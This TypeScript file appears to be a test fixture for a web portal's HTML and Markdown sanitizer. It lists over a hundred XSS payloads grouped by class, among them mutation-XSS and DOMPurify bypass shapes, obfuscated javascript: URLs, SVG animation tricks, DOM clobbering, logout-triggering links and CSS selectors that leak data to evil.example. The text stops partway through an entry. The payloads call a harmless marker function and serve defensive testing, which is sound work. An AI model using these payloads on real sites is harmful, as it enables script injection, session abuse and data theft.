/**
 * A second, independent payload set (fifth session's hostile probe), by class. Like `payloads.ts`, every payload
 * that runs calls `__xss('<id>')` or `alert()`. These are written afresh, not copied from the first set: other
 * spellings, other elements, the published DOMPurify bypass shapes with the wrappers moved, and the Markdown
 * forms marked turns into links and images.
 *
 * `{{prefix}}` stands for the test client's prefix. A payload must import: nothing here may name a file that is
 * missing from the content folder (`media/poster.png` is there) or a media type the importer refuses.
 */
export interface HostilePayload {
  id: string;
  kind:
    | 'mutation'
    | 'namespace'
    | 'document'
    | 'embedding'
    | 'url-obfuscation'
    | 'svg-animation'
    | 'css'
    | 'form'
    | 'event-handler'
    | 'loading-attribute'
    | 'legacy-element'
    | 'markdown'
    | 'clobbering'
    | 'unicode';
  html: string;
}

const run = (id: string) => `__xss('h-${id}')`;

export const HOSTILE_PAYLOADS: HostilePayload[] = [
  // Mutation XSS: markup a second parse (the portal's <template> for headings, then innerHTML) could re-read.
  {
    id: 'mx-mglyph-style',
    kind: 'mutation',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${run('mx-mglyph-style')}&gt;">`,
  },
  {
    id: 'mx-svg-p-style',
    kind: 'mutation',
    html: `<svg></p><style><a id="</style><img src=1 onerror=${run('mx-svg-p-style')}>">`,
  },
  {
    id: 'mx-form-textarea',
    kind: 'mutation',
    html: `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run('mx-form-textarea')} src=1>">`,
  },
  {
    id: 'mx-noscript-attr',
    kind: 'mutation',
    html: `<noscript><a title="</noscript><img src=x onerror=${run('mx-noscript-attr')}>">n</a></noscript>`,
  },
  {
    id: 'mx-noscript-heading',
    kind: 'mutation',
    html: `<h1>Top</h1><noscript><h2 title="</noscript><img src=x onerror=${run('mx-noscript-heading')}>">n</h2></noscript>`,
  },
  {
    id: 'mx-template-content',
    kind: 'mutation',
    html: `<template><template><img src=x onerror=${run('mx-template-content')}></template></template><h2>t</h2>`,
  },
  {
    id: 'mx-template-shadow',
    kind: 'mutation',
    html: `<div><template shadowrootmode="open"><img src=x onerror=${run('mx-template-shadow')}></template></div>`,
  },
  {
    id: 'mx-noembed',
    kind: 'mutation',
    html: `<noembed><p title="</noembed><img src=x onerror=${run('mx-noembed')}>"></p></noembed>`,
  },
  {
    id: 'mx-noframes',
    kind: 'mutation',
    html: `<noframes><p title="</noframes><img src=x onerror=${run('mx-noframes')}>"></p></noframes>`,
  },
  {
    id: 'mx-iframe-raw',
    kind: 'mutation',
    html: `<iframe><p title="</iframe><img src=x onerror=${run('mx-iframe-raw')}>"></p></iframe>`,
  },
  {
    id: 'mx-plaintext',
    kind: 'mutation',
    html: `<p>a</p><plaintext><img src=x onerror=${run('mx-plaintext')}>`,
  },
  {
    id: 'mx-select-selectedcontent',
    kind: 'mutation',
    html: `<select><button><selectedcontent></selectedcontent></button><option selected><img src=x onerror=${run('mx-select-selectedcontent')}>o</option></select>`,
  },
  {
    id: 'mx-table-foster',
    kind: 'mutation',
    html: `<table><a title="</table><img src=x onerror=${run('mx-table-foster')}>">f</a><tr><td>c</td></tr></table>`,
  },
  {
    id: 'mx-comment-bang',
    kind: 'mutation',
    html: `<!--!><img src=x onerror=${run('mx-comment-bang')}>--!><p>after</p>`,
  },
  {
    id: 'mx-pi',
    kind: 'mutation',
    html: `<?xml-stylesheet ><img src=x onerror=${run('mx-pi')}>?><p>pi</p>`,
  },
  {
    id: 'mx-cdata-html',
    kind: 'mutation',
    html: `<![CDATA[><img src=x onerror=${run('mx-cdata-html')}>]]>`,
  },
  {
    id: 'mx-heading-attr',
    kind: 'mutation',
    html: `<h2 title="&lt;/h2&gt;&lt;img src=x onerror=${run('mx-heading-attr')}&gt;">h</h2><h3>below</h3>`,
  },

  // Namespace confusion: HTML integration points and elements that exist in several namespaces.
  {
    id: 'ns-svg-title',
    kind: 'namespace',
    html: `<svg><title><style><img src=x onerror=${run('ns-svg-title')}></style></title></svg>`,
  },
  {
    id: 'ns-math-annotation',
    kind: 'namespace',
    html: `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run('ns-math-annotation')}></style></annotation-xml></math>`,
  },
  {
    id: 'ns-svg-desc-foreign',
    kind: 'namespace',
    html: `<svg><desc><svg><foreignObject><iframe srcdoc="<script>parent.${run('ns-svg-desc-foreign')}</script>"></iframe></foreignObject></svg></desc></svg>`,
  },
  {
    id: 'ns-math-mi-svg',
    kind: 'namespace',
    html: `<math><mi><svg><style><img src=x onerror=${run('ns-math-mi-svg')}></style></svg></mi></math>`,
  },
  {
    id: 'ns-xmlns',
    kind: 'namespace',
    html: `<div xmlns="http://www.w3.org/2000/svg"><a xlink:href="javascript:${run('ns-xmlns')}">ns</a></div>`,
  },

  // Elements that change the whole document: base, refresh, links, stylesheets.
  {
    id: 'doc-base',
    kind: 'document',
    html: `<base href="https://evil.example/"><a href="relative">rel</a>`,
  },
  {
    id: 'doc-base-target',
    kind: 'document',
    html: `<base target="_top" href="javascript:${run('doc-base-target')}//">`,
  },
  {
    id: 'doc-refresh-js',
    kind: 'document',
    html: `<meta http-equiv="refresh" content="0; URL='javascript:${run('doc-refresh-js')}'">`,
  },
  {
    id: 'doc-refresh-data',
    kind: 'document',
    html: `<meta http-equiv="Refresh" content="1;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnaC1yZWZyZXNoJyk8L3NjcmlwdD4=">`,
  },
  {
    id: 'doc-meta-csp',
    kind: 'document',
    html: `<meta http-equiv="Content-Security-Policy" content="script-src 'none'; default-src 'none'">`,
  },
  {
    id: 'doc-link-stylesheet',
    kind: 'document',
    html: `<link rel="stylesheet" href="data:text/css,body{display:none}">`,
  },
  {
    id: 'doc-link-modulepreload',
    kind: 'document',
    html: `<link rel="modulepreload" href="data:text/javascript,${run('doc-link-modulepreload')}">`,
  },
  {
    id: 'doc-link-prefetch',
    kind: 'document',
    html: `<link rel="prefetch" href="/api/{{prefix}}/logout"><link rel="preload" as="image" href="https://evil.example/p.png">`,
  },
  {
    id: 'doc-link-icon',
    kind: 'document',
    html: `<link rel="icon" href="/api/{{prefix}}/logout">`,
  },

  // Embedding: object, embed, frames, srcdoc.
  {
    id: 'emb-object-html',
    kind: 'embedding',
    html: `<object data="data:text/html,<script>parent.${run('emb-object-html')}</script>" type="text/html"></object>`,
  },
  {
    id: 'emb-object-param',
    kind: 'embedding',
    html: `<object><param name="src" value="javascript:${run('emb-object-param')}"></object>`,
  },
  {
    id: 'emb-embed-svg',
    kind: 'embedding',
    html: `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${run('emb-embed-svg')}'/>">`,
  },
  {
    id: 'emb-srcdoc-entities',
    kind: 'embedding',
    html: `<iframe srcdoc="&#60;img src=x onerror=parent.${run('emb-srcdoc-entities')}&#62;"></iframe>`,
  },
  {
    id: 'emb-iframe-data',
    kind: 'embedding',
    html: `<iframe src="data:text/html,<script>parent.${run('emb-iframe-data')}</script>"></iframe>`,
  },
  {
    id: 'emb-frameset',
    kind: 'embedding',
    html: `<frameset><frame src="javascript:${run('emb-frameset')}"></frameset>`,
  },
  {
    id: 'emb-portal',
    kind: 'embedding',
    html: `<portal src="javascript:${run('emb-portal')}"></portal><fencedframe src="/api/{{prefix}}/logout"></fencedframe>`,
  },

  // javascript:, data:, vbscript: in links, obfuscated by entities, whitespace, case and control characters.
  {
    id: 'url-colon-entity',
    kind: 'url-obfuscation',
    html: `<a href="javascript&colon;${run('url-colon-entity')}">c</a>`,
  },
  {
    id: 'url-colon-numeric',
    kind: 'url-obfuscation',
    html: `<a href="javascript&#x3A;${run('url-colon-numeric')}">c</a><a href="javascript&#58${run('url-colon-numeric')}">c2</a>`,
  },
  {
    id: 'url-newline-entity',
    kind: 'url-obfuscation',
    html: `<a href="java&NewLine;scr&Tab;ipt&colon;${run('url-newline-entity')}">nl</a>`,
  },
  {
    id: 'url-leading-controls',
    kind: 'url-obfuscation',
    html: `<a href="&#x01;&#x1f; javascript:${run('url-leading-controls')}">ctl</a>`,
  },
  {
    id: 'url-padded-decimal',
    kind: 'url-obfuscation',
    html: `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${run('url-padded-decimal')}">pad</a>`,
  },
  {
    id: 'url-hex-no-semicolon',
    kind: 'url-obfuscation',
    html: `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${run('url-hex-no-semicolon')}">hex</a>`,
  },
  {
    id: 'url-mixed-case-ws',
    kind: 'url-obfuscation',
    html: `<a href=" \n JaVa\tScRiPt :${run('url-mixed-case-ws')}">ws</a><a href="JAVASCRIPT:${run('url-mixed-case-ws')}">up</a>`,
  },
  {
    id: 'url-data-html',
    kind: 'url-obfuscation',
    html: `<a href="DATA:text/html,<script>${run('url-data-html')}</script>">d</a><a href=" data:text/html;charset=utf-8;base64,PHNjcmlwdD5hbGVydCgnaC1kYXRhJyk8L3NjcmlwdD4=">d64</a>`,
  },
  {
    id: 'url-vbscript',
    kind: 'url-obfuscation',
    html: `<a href="VbScript:MsgBox(1)">vb</a><a href="livescript:${run('url-vbscript')}">ls</a>`,
  },
  {
    id: 'url-area',
    kind: 'url-obfuscation',
    html: `<img src="media/poster.png" usemap="#hm" alt="map"><map name="hm"><area shape="default" href="jav&#x09;ascript:${run('url-area')}" alt="a"></map>`,
  },
  {
    id: 'url-protocol-relative',
    kind: 'url-obfuscation',
    html: `<a href="//evil.example/x">pr</a><a href="/\\/evil.example/">bs</a><a href="https:\\\\evil.example">hb</a><a href="/%09/evil.example">enc</a>`,
  },
  // Found by the thirty-first session's XSS probe: control characters before an address (browsers drop them,
  // `trim` kept them), links into the API (a click logged the viewer out), a file saved under content's name.
  {
    id: 'url-leading-control-offsite',
    kind: 'url-obfuscation',
    html: `<a href="&#x01;//evil.example/ctl">c1</a><a href="&#x1f;&#160;&#x01;//evil.example/ctl">c2</a><a href="&#x08;#root">c3</a>`,
  },
  {
    id: 'url-into-api',
    kind: 'url-obfuscation',
    html: `<a href="/api/{{prefix}}/logout">a1</a><a href="../api/{{prefix}}/logout">a2</a><a href="/%61pi/{{prefix}}/logout">a3</a><a href="/{{prefix}}/%2e%2e/api/./{{prefix}}/logout">a4</a>`,
  },
  {
    id: 'url-download-name',
    kind: 'url-obfuscation',
    html: `<a href="media/poster.png" download="Statement.html">d1</a>`,
  },
  {
    id: 'url-tel-mailto',
    kind: 'url-obfuscation',
    html: `<a href="tel:javascript:${run('url-tel-mailto')}">t</a><a href="mailto:javascript:${run('url-tel-mailto')}">m</a>`,
  },

  // SVG animation of href and use with data: documents.
  {
    id: 'svg-animate-values',
    kind: 'svg-animation',
    html: `<svg><a><animate attributeName="href" values="javascript:${run('svg-animate-values')}" begin="0s" fill="freeze"/><text x="10" y="20">anim</text></a></svg>`,
  },
  {
    id: 'svg-animate-xlink',
    kind: 'svg-animation',
    html: `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="#"><animate attributeName="xlink:href" from="javascript:${run('svg-animate-xlink')}" to="javascript:${run('svg-animate-xlink')}" dur="1s"/><text y="20">x</text></a></svg>`,
  },
  {
    id: 'svg-set-onbegin',
    kind: 'svg-animation',
    html: `<svg><set attributeName="x" to="1" onbegin="${run('svg-set-onbegin')}"/><discard onbegin="${run('svg-set-onbegin')}"/></svg>`,
  },
  {
    id: 'svg-use-data',
    kind: 'svg-animation',
    html: `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>`,
  },
  {
    id: 'svg-image-xlink',
    kind: 'svg-animation',
    html: `<svg><image xlink:href="/api/{{prefix}}/logout" onerror="${run('svg-image-xlink')}"/></svg>`,
  },

  // CSS: attributes and sheets with expression(), url(javascript:), @import, and what they can load.
  {
    id: 'css-style-url',
    kind: 'css',
    html: `<p style="background-image:url('javascript:${run('css-style-url')}');behavior:url(#default#time2)">s</p>`,
  },
  {
    id: 'css-style-expression',
    kind: 'css',
    html: `<p style="x:expr/**/ession(${run('css-style-expression')})">e</p>`,
  },
  {
    id: 'css-style-logout',
    kind: 'css',
    html: `<p style="background:url(/api/{{prefix}}/logout)">bg</p>`,
  },
  {
    id: 'css-sheet-import',
    kind: 'css',
    html: `<style>@import url("data:text/css,*{background:url(/api/{{prefix}}/logout)}");</style><style>@import 'javascript:${run('css-sheet-import')}';</style>`,
  },
  {
    id: 'css-sheet-hide',
    kind: 'css',
    html: `<style>#root,body{display:none!important}</style>`,
  },
  {
    id: 'css-sheet-escape',
    kind: 'css',
    html: `<style>a{color:red}</sty\\le><img src=x onerror=${run('css-sheet-escape')}></style>`,
  },

  // Forms and their buttons.
  {
    id: 'form-formaction',
    kind: 'form',
    html: `<form id="f"><input type="submit" formaction="javascript:${run('form-formaction')}" value="go"></form><button form="f" formaction="javascript:${run('form-formaction')}">b</button>`,
  },
  {
    id: 'form-logout',
    kind: 'form',
    html: `<form action="/api/{{prefix}}/logout" method="get"><input type="image" src="/api/{{prefix}}/logout" alt="i"></form>`,
  },
  {
    id: 'form-commandfor',
    kind: 'form',
    html: `<button commandfor="user-content-d" command="show-modal">open</button><dialog id="d" onclose="${run('form-commandfor')}">d</dialog>`,
  },

  // Handlers that fire by themselves.
  {
    id: 'ev-details-ontoggle',
    kind: 'event-handler',
    html: `<details open ontoggle="${run('ev-details-ontoggle')}"><summary>s</summary>d</details>`,
  },
  {
    id: 'ev-details-name',
    kind: 'event-handler',
    html: `<details name="g" ontoggle=${run('ev-details-name')}><summary>a</summary></details><details name="g" open>b</details>`,
  },
  {
    id: 'ev-autofocus',
    kind: 'event-handler',
    html: `<a href="#" autofocus onfocus="${run('ev-autofocus')}">af</a><div tabindex="0" autofocus onfocusin="${run('ev-autofocus')}">af2</div>`,
  },
  {
    id: 'ev-popover',
    kind: 'event-handler',
    html: `<div popover id="pp" onbeforetoggle="${run('ev-popover')}">pop</div><a popovertarget="pp">toggle</a>`,
  },
  {
    id: 'ev-video-poster',
    kind: 'event-handler',
    html: `<video poster="media/poster.png" onloadstart="${run('ev-video-poster')}" autoplay muted><source src="x" onerror="${run('ev-video-poster')}"></video>`,
  },
  {
    id: 'ev-content-visibility',
    kind: 'event-handler',
    html: `<p oncontentvisibilityautostatechange="${run('ev-content-visibility')}" style="content-visibility:auto">cv</p>`,
  },
  {
    id: 'ev-scrollend',
    kind: 'event-handler',
    html: `<div onscrollend="${run('ev-scrollend')}" onanimationstart="${run('ev-scrollend')}" style="animation:spin 1s">se</div>`,
  },
  {
    id: 'ev-entity-name',
    kind: 'event-handler',
    html: `<img src="media/poster.png" o&#110;load="${run('ev-entity-name')}" alt="e"><img src=x ONERROR=${run('ev-entity-name')} alt=u>`,
  },
  {
    id: 'ev-newline-attr',
    kind: 'event-handler',
    html: `<img src=x\nonerror=${run('ev-newline-attr')} alt="n"><img src=x/onerror=${run('ev-newline-attr')}>`,
  },

  // Attributes that make the page load something by itself: only imported media may be loaded.
  {
    id: 'load-srcset',
    kind: 'loading-attribute',
    html: `<img srcset="/api/{{prefix}}/logout 1x, https://evil.example/a.png 2x" alt="s"><picture><source srcset="/api/{{prefix}}/logout"><img src="media/poster.png" alt="p"></picture>`,
  },
  {
    id: 'load-background',
    kind: 'loading-attribute',
    html: `<table background="/api/{{prefix}}/logout"><tr><td background="https://evil.example/t.png">bg</td><th background="/api/{{prefix}}">th</th></tr></table>`,
  },
  {
    id: 'load-track',
    kind: 'loading-attribute',
    html: `<video src="media/welcome.webm"><track default kind="captions" src="/api/{{prefix}}/logout"></video><audio src="/api/{{prefix}}/logout"></audio>`,
  },
  {
    id: 'load-ping',
    kind: 'loading-attribute',
    html: `<a href="https://example.com/" ping="/api/{{prefix}}/logout">ping</a><img src="media/poster.png" longdesc="javascript:${run('load-ping')}" alt="l">`,
  },
  {
    id: 'load-media-escape',
    kind: 'loading-attribute',
    html: `<img src="/media/{{prefix}}/../../api/{{prefix}}/logout" alt="m1"><img src="./media/%2e%2e/api/{{prefix}}/logout" alt="m2"><video poster="/media/{{prefix}}/x.png"></video>`,
  },

  // Old elements browsers still map: isindex, image, keygen, xmp, listing.
  {
    id: 'legacy-isindex',
    kind: 'legacy-element',
    html: `<isindex type="image" src="1" onerror="${run('legacy-isindex')}" action="javascript:${run('legacy-isindex')}">`,
  },
  {
    id: 'legacy-image',
    kind: 'legacy-element',
    html: `<image src="x" onerror="${run('legacy-image')}"><IMAGE SRC="/api/{{prefix}}/logout">`,
  },
  {
    id: 'legacy-keygen',
    kind: 'legacy-element',
    html: `<keygen autofocus onfocus="${run('legacy-keygen')}"><listing><img src=x onerror=${run('legacy-keygen')}></listing>`,
  },
  {
    id: 'legacy-xmp',
    kind: 'legacy-element',
    html: `<xmp><p title="</xmp><img src=x onerror=${run('legacy-xmp')}>"></xmp>`,
  },

  // Markdown: link and image forms, reference definitions, autolinks, raw HTML blocks, titles and alt text.
  { id: 'md-inline-js', kind: 'markdown', html: `[inline](javascript:${run('md-inline-js')})` },
  {
    id: 'md-angle-js',
    kind: 'markdown',
    html: `[angle](<javascript:${run('md-angle-js')}>)`,
  },
  {
    id: 'md-entity-js',
    kind: 'markdown',
    html: `[ent](javascript&#58;${run('md-entity-js')}) [ent2](&#x6A;avascript:${run('md-entity-js')})`,
  },
  {
    id: 'md-space-js',
    kind: 'markdown',
    html: `[sp]( JavaScript:${run('md-space-js')} "t")`,
  },
  {
    id: 'md-reference',
    kind: 'markdown',
    html: `[ref link][hostile] and [hostile]\n\n[hostile]: <javascript:${run('md-reference')}> "title <img src=x onerror=${run('md-reference')}>"`,
  },
  {
    id: 'md-autolink',
    kind: 'markdown',
    html: `<javascript:${run('md-autolink')}> <JAVASCRIPT:${run('md-autolink')}> <vbscript:msgbox(1)> <data:text/html,x>`,
  },
  {
    id: 'md-autolink-gfm',
    kind: 'markdown',
    html: `www.example.com/"onmouseover="${run('md-autolink-gfm')}" and https://example.com/<img src=x onerror=${run('md-autolink-gfm')}>`,
  },
  {
    id: 'md-title',
    kind: 'markdown',
    html: `[titled](https://example.com "a\\" onmouseover=\\"${run('md-title')}") [t2](https://example.com '"><img src=x onerror=${run('md-title')}>')`,
  },
  {
    id: 'md-image-alt',
    kind: 'markdown',
    html: `![alt "><img src=x onerror=${run('md-image-alt')}>](media/poster.png) ![<svg onload=${run('md-image-alt')}>](media/poster.png "<img src=x onerror=${run('md-image-alt')}>")`,
  },
  {
    id: 'md-image-js',
    kind: 'markdown',
    html: `![js](javascript:${run('md-image-js')}) ![logout](/api/{{prefix}}/logout)`,
  },
  {
    id: 'md-html-block',
    kind: 'markdown',
    html: `<div>\n\n[in block](javascript:${run('md-html-block')})\n\n<img src=x onerror=${run('md-html-block')}>\n\n</div>`,
  },
  {
    id: 'md-html-block-type7',
    kind: 'markdown',
    html: `<custom-element onclick="${run('md-html-block-type7')}">\n*emphasis* <img src=x onerror=${run('md-html-block-type7')}>\n</custom-element>`,
  },
  {
    id: 'md-code-span',
    kind: 'markdown',
    html:
      '`<img src=x onerror=' +
      run('md-code-span') +
      '>` and\n\n```html\n<script>' +
      run('md-code-span') +
      '</script>\n```',
  },
  {
    id: 'md-link-in-html-attr',
    kind: 'markdown',
    html: `<a title="[x](javascript:${run('md-link-in-html-attr')})">x</a> [<img src=x onerror=${run('md-link-in-html-attr')}>](https://example.com)`,
  },
  {
    id: 'md-footnote-table',
    kind: 'markdown',
    html: `| a | b |\n|---|---|\n| <img src=x onerror=${run('md-footnote-table')}> | [c](javascript:${run('md-footnote-table')}) |`,
  },

  // DOM clobbering of what the portal and its libraries read from the document.
  {
    id: 'clob-globals',
    kind: 'clobbering',
    html: `<a id="__xss"></a><img name="currentScript"><form name="body"></form><a id="defaultView" name="defaultView"></a><iframe name="parent"></iframe><embed name="top">`,
  },
  {
    id: 'clob-boot',
    kind: 'clobbering',
    html: `<script type="application/json" id="portal-boot">{"modules":["data:text/javascript,${run('clob-boot')}"]}</script><a id="portal-boot" href="x">{}</a>`,
  },
  // The thirty-third session's round: classes the sets above lacked (each checked against them, none a respelling).
  // Mutation XSS: `</br>` (the other end tag foreign content hands back to HTML), the h1/h6 misnesting of the
  // DOMPurify 2.2.2 bypass, comments, CDATA and processing instructions inside SVG and MathML, and raw-text
  // elements inside foreign content.
  {
    id: 'mx-svg-br',
    kind: 'mutation',
    html: `<svg></br><style><a id="</style><img src=1 onerror=${run('mx-svg-br')}>">`,
  },
  {
    id: 'mx-math-br',
    kind: 'mutation',
    html: `<math><mi></br><style><a id="</style><img src=1 onerror=${run('mx-math-br')}>"></mi></math>`,
  },
  {
    id: 'mx-h1-h6-mglyph',
    kind: 'mutation',
    html: `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${run('mx-h1-h6-mglyph')}>"></style></mtext></svg></mglyph></h1></mtext></math>`,
  },
  {
    id: 'mx-svg-comment',
    kind: 'mutation',
    html: `<svg><!--</svg><img src=x onerror=${run('mx-svg-comment')}>--><desc><!--><img src=x onerror=${run('mx-svg-comment')}>--></desc></svg>`,
  },
  {
    id: 'mx-math-comment',
    kind: 'mutation',
    html: `<math><mi><!--</mi></math><img src=x onerror=${run('mx-math-comment')}>--></mi></math>`,
  },
  {
    id: 'mx-svg-style-cdata',
    kind: 'mutation',
    html: `<svg><style><![CDATA[</style><img src=x onerror=${run('mx-svg-style-cdata')}>]]></style></svg>`,
  },
  {
    id: 'mx-math-cdata',
    kind: 'mutation',
    html: `<math><mi><![CDATA[</mi></math><img src=x onerror=${run('mx-math-cdata')}>]]></mi></math>`,
  },
  {
    id: 'mx-svg-pi',
    kind: 'mutation',
    html: `<svg><?xml-stylesheet href="javascript:${run('mx-svg-pi')}"?><?x </svg><img src=x onerror=${run('mx-svg-pi')}> ?></svg>`,
  },
  {
    id: 'mx-svg-noscript',
    kind: 'mutation',
    html: `<svg><foreignObject><noscript><p title="</noscript><img src=x onerror=${run('mx-svg-noscript')}>"></p></noscript></foreignObject></svg>`,
  },
  {
    id: 'mx-math-xmp',
    kind: 'mutation',
    html: `<math><mtext><xmp><p title="</xmp><img src=x onerror=${run('mx-math-xmp')}>"></xmp></mtext></math>`,
  },
  {
    id: 'mx-svg-noembed',
    kind: 'mutation',
    html: `<svg><desc><noembed><p title="</noembed><img src=x onerror=${run('mx-svg-noembed')}>"></noembed></desc></svg><noframes><a title="</noframes><svg onload=${run('mx-svg-noembed')}>"></a></noframes>`,
  },
  {
    id: 'mx-svg-iframe-plaintext',
    kind: 'mutation',
    html: `<svg><title><iframe><a title="</iframe><img src=x onerror=${run('mx-svg-iframe-plaintext')}>"></a></iframe></title></svg><math><mtext><plaintext><img src=x onerror=${run('mx-svg-iframe-plaintext')}></plaintext></mtext></math>`,
  },
  {
    id: 'mx-template-svg',
    kind: 'mutation',
    html: `<template><svg><style><img src=x onerror=${run('mx-template-svg')}></style></svg></template><svg><template><style></template><img src=x onerror=${run('mx-template-svg')}></style></svg>`,
  },
  {
    id: 'mx-select-style',
    kind: 'mutation',
    html: `<select><style></select><img src=x onerror=${run('mx-select-style')}></style></select><select><div><img src=x onerror=${run('mx-select-style')}></div></select>`,
  },
  {
    id: 'mx-p-close',
    kind: 'mutation',
    html: `<table></p><img src=x onerror=${run('mx-p-close')}></table><svg><p></svg><style><img src=x onerror=${run('mx-p-close')}></style>`,
  },
  {
    id: 'mx-form-math-svg',
    kind: 'mutation',
    html: `<form><math><mtext></form><form><mglyph><svg><style></math><img src onerror=${run('mx-form-math-svg')}>`,
  },
  // SVG and SMIL beyond the sets above: feImage, values lists, set of xlink:href, animateMotion's begin.
  {
    id: 'svg-feimage',
    kind: 'svg-animation',
    html: `<svg><filter id="f"><feImage href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${run('svg-feimage')}'/>"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  },
  {
    id: 'svg-values-list',
    kind: 'svg-animation',
    html: `<svg><a id="v"><animate attributeName="href" values="#;javascript:${run('svg-values-list')}" dur="0.1s" fill="freeze"/><text y="20">v</text></a></svg>`,
  },
  {
    id: 'svg-set-xlink',
    kind: 'svg-animation',
    html: `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="#"><set attributeName="xlink:href" to="javascript:${run('svg-set-xlink')}"/><text y="20">s</text></a><animateMotion begin="0s" onend="${run('svg-set-xlink')}" dur="0.1s"/></svg>`,
  },
  {
    id: 'svg-use-fragment',
    kind: 'svg-animation',
    html: `<svg><use href="#user-content-x"/><use xlink:href="media/poster.png#x"/><image href="javascript:${run('svg-use-fragment')}"/></svg>`,
  },

  // Navigation and forms: a new window without noopener, pings, areas, entity-encoded srcdoc, objects.
  {
    id: 'nav-target-blank',
    kind: 'document',
    html: `<a href="https://example.com/" target="_blank">tb</a><a href="https://example.com/" target="_top" rel="opener">tt</a><area href="https://example.com/" target="_blank">`,
  },
  {
    id: 'nav-refresh-spaced',
    kind: 'document',
    html: `<meta http-equiv=" refresh " content="0,url=https://evil.example/"><meta http-equiv="set-cookie" content="sid=evil; path=/">`,
  },
  {
    id: 'nav-srcdoc-named',
    kind: 'embedding',
    html: `<iframe srcdoc="&lt;script&gt;parent.${run('nav-srcdoc-named')}&lt;/script&gt;&amp;lt;"></iframe><iframe src="/api/{{prefix}}/logout" loading="eager"></iframe>`,
  },
  {
    id: 'nav-object-embed-media',
    kind: 'embedding',
    html: `<object data="media/poster.png" type="text/html"></object><embed src="media/poster.png" type="image/svg+xml"><object data="/api/{{prefix}}/logout"></object>`,
  },
  {
    id: 'nav-formaction-nested',
    kind: 'form',
    html: `<form action="https://evil.example/"><input name="q" value="x"><button formaction="javascript:${run('nav-formaction-nested')}" formtarget="_blank">b</button><input type="submit" formmethod="post"></form>`,
  },

  // Handlers on newer elements and attributes.
  {
    id: 'ev-popover-toggle',
    kind: 'event-handler',
    html: `<div popover="manual" id="pm" ontoggle="${run('ev-popover-toggle')}">p</div><a popovertarget="user-content-pm" popovertargetaction="show">s</a>`,
  },
  {
    id: 'ev-beforematch',
    kind: 'event-handler',
    html: `<div hidden="until-found" id="bm" onbeforematch="${run('ev-beforematch')}">bm</div><a href="#bm">reveal</a>`,
  },
  {
    id: 'ev-newer-handlers',
    kind: 'event-handler',
    html: `<p onsecuritypolicyviolation="${run('ev-newer-handlers')}" onscrollsnapchange="${run('ev-newer-handlers')}" onpointerrawupdate="${run('ev-newer-handlers')}" oncommand="${run('ev-newer-handlers')}" onbeforeinput="${run('ev-newer-handlers')}" contenteditable autofocus>n</p>`,
  },
  {
    id: 'ev-dialog-open',
    kind: 'event-handler',
    html: `<dialog open onclose="${run('ev-dialog-open')}" oncancel="${run('ev-dialog-open')}"><p autofocus tabindex="0" onfocus="${run('ev-dialog-open')}">d</p></dialog>`,
  },
  {
    id: 'ev-media-events',
    kind: 'event-handler',
    html: `<video src="media/welcome.webm" muted autoplay onloadedmetadata="${run('ev-media-events')}" oncanplay="${run('ev-media-events')}" onplay="${run('ev-media-events')}"></video><img src="media/poster.png" onload="${run('ev-media-events')}" loading="lazy" alt="l">`,
  },

  // DOM clobbering of the globals the portal's own code reads (window.location, document.getElementById('root'),
  // the boot element), and of the prototype.
  {
    id: 'clob-location',
    kind: 'clobbering',
    html: `<img name="location"><form id="location"></form><a id="location" href="javascript:${run('clob-location')}">l</a><img name="getElementById"><img id="__proto__" name="__proto__"><a id="root" name="root"></a><img name="cookie"><img name="matchMedia"><img name="requestIdleCallback">`,
  },
  {
    id: 'clob-document-props',
    kind: 'clobbering',
    html: `<form name="forms"><img name="documentElement"></form><img name="activeElement"><img name="baseURI"><embed name="scripts"><object name="head"></object>`,
  },
  // CSS: attribute-selector exfiltration, `@import` and `url()` in sheets and attributes, animations to fire
  // handlers (the sheet is what would let them run).
  {
    id: 'css-attribute-selector',
    kind: 'css',
    html: `<style>input[value^="a"]{background:url(/api/{{prefix}}/logout?a)}a[href^="/{{prefix}}"]{background:url(https://evil.example/leak)}</style><svg><style>@import url(https://evil.example/s.css);</style></svg>`,
  },
  {
    id: 'css-keyframes-handler',
    kind: 'css',
    html: `<style>@keyframes k{from{opacity:0}to{opacity:1}}</style><p style="animation:k 0.1s" onanimationstart="${run('css-keyframes-handler')}" onanimationend="${run('css-keyframes-handler')}" ontransitionend="${run('css-keyframes-handler')}">k</p>`,
  },

  // Unicode and encodings: fullwidth brackets, Javascript behind `//` comments, schemes in other letters.
  {
    id: 'uni-fullwidth',
    kind: 'unicode',
    html: `＜script＞${run('uni-fullwidth')}＜/script＞ ＜img src=x onerror=${run('uni-fullwidth')}＞ \uFE64img src=x onerror=${run('uni-fullwidth')}\uFE65 \u2039svg onload=${run('uni-fullwidth')}\u203A`,
  },
  {
    id: 'uni-js-comment',
    kind: 'unicode',
    html: `<a href="javascript://example.com/%0A${run('uni-js-comment')}">c1</a><a href="javascript://%0d%0a${run('uni-js-comment')}">c2</a><a href="javascript:/*//example.com*/${run('uni-js-comment')}">c3</a>`,
  },
  {
    id: 'uni-scheme-lookalike',
    kind: 'unicode',
    html: `<a href="ｊａｖａｓｃｒｉｐｔ:${run('uni-scheme-lookalike')}">fw</a><a href="java&#0;script:${run('uni-scheme-lookalike')}">nul</a><a href="jav\u00ADascript:${run('uni-scheme-lookalike')}">shy</a><a href="\u017Fcript:x">s</a><a href="JAVASCRİPT:${run('uni-scheme-lookalike')}">dot</a>`,
  },
  {
    id: 'uni-entities',
    kind: 'unicode',
